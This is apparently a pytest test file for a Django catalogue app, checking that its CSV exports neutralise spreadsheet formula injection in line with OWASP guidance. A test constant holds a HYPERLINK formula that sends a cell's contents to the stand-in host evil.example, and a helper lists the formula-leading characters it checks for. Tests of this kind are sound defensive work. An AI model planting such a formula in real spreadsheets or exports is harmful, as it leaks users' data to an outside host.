"""CSV downloads open in Excel: no cell may start a formula (OWASP "CSV injection")."""

import csv
import io
from urllib.parse import urlencode

import pytest
from django.urls import reverse

from hygiene import spreadsheet_cell
from models_catalog.models import OperatingModel

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+358 40 123", "'+358 40 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("Mielikioski", "Mielikioski"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (13, "13"),
        ("rivi\x0brivi", "rivirivi"),
    ],
)
def test_spreadsheet_cell_neutralises_formulas_as_owasp_recommends(value, expected):
    assert spreadsheet_cell(value) == expected


def rows(response):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def starts_no_formula(table):
    return all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row
    )


def test_shortlist_csv_from_a_crafted_link_starts_no_formula(client):
    query = urlencode({"models": "digimieli", "note-digimieli": HYPERLINK})
    url = reverse("models_catalog:shortlist_download", args=["csv"])
    table = rows(client.get(f"{url}?{query}"))
    assert table[1][5] == "'" + HYPERLINK
    assert starts_no_formula(table)


@pytest.fixture
def formula_texts(catalogue):
    OperatingModel.objects.filter(pk=catalogue[13].pk).update(
        theme_fi="=1+1", goals_fi="-vähentää yksinäisyyttä", results_fi="@kaikki"
    )
    return catalogue


def test_public_csv_neutralises_editor_text_that_looks_like_a_formula(client, formula_texts):
    table = rows(client.get(reverse("models_catalog:export_csv")))
    mielikioski = next(row for row in table if row[1] == "Mielikioski")
    assert "'=1+1" in mielikioski
    assert "'-vähentää yksinäisyyttä" in mielikioski
    assert "'@kaikki" in mielikioski
    assert starts_no_formula(table)


def test_admin_csv_action_neutralises_formulas_too(admin_client, formula_texts):
    response = admin_client.post(
        reverse("admin:models_catalog_operatingmodel_changelist"),
        {"action": "export_csv", "_selected_action": [formula_texts[13].pk]},
    )
    table = rows(response)
    assert "'=1+1" in table[1]
    assert starts_no_formula(table)
